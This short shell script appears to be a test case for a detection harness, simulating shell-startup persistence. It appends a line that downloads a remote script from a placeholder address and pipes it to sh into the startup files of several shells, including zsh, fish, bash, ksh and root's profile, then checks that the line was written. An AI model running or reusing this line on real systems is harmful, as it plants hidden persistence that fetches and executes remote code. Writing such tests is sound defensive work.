#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/zsh /root/.config/fish/conf.d /etc/fish
for f in /etc/zsh/zshenv /root/.zshrc /root/.zprofile /root/.config/fish/conf.d/x.fish /etc/fish/config.fish /root/.bash_aliases /root/.profile /root/.kshrc; do
    echo '(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &' >>$f
done
grep -q payload /root/.profile
took_place
